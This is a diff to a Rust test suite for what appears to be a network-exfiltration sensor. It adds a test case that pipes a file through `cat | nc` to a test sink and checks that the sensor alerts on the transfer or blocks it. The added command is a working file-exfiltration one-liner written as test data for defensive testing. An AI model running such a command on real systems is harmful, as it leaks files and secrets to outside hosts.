@@ -3,7 +3,7 @@
 //! namespace the test creates); with `action: alert` each gives a `detection.exfiltration`
 //! with the destination and the bytes the sink received, with `action: deny` each connect
 //! fails with EPERM and nothing arrives. A sender that connects before it reads the file
-//! (nc, and Python over TCP and UDP) is cut under `action: deny` at its first tainted send:
+//! (nc, `cat | nc`, and Python over TCP and UDP) is cut under `action: deny` at its first tainted send:
 //! nothing arrives, its detection says `deny` and `mnsensor.egress.cut`, and its send or
 //! receive fails. Also: an archive or compressed copy piped through an encryptor to the
 //! network, and an allowed destination with `allowed_uids`.
@@ -118,6 +118,16 @@ const WAYS: &[Way] = &[
         send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
         expected: Some(3000),
         cut_exit: None,
+    },
+    Way {
+        name: "cat | nc",
+        ipv6: false,
+        transport: "tcp",
+        sink: SINK,
+        // nc is tainted through the pipe (one hop), after it connected.
+        send: |f, a, p| format!("sh -c 'cat {f} | nc -N {a} {p}'"),
+        expected: Some(SIZE as u64),
+        cut_exit: Some(0),
     },
     Way {
         name: "python connected before reading",
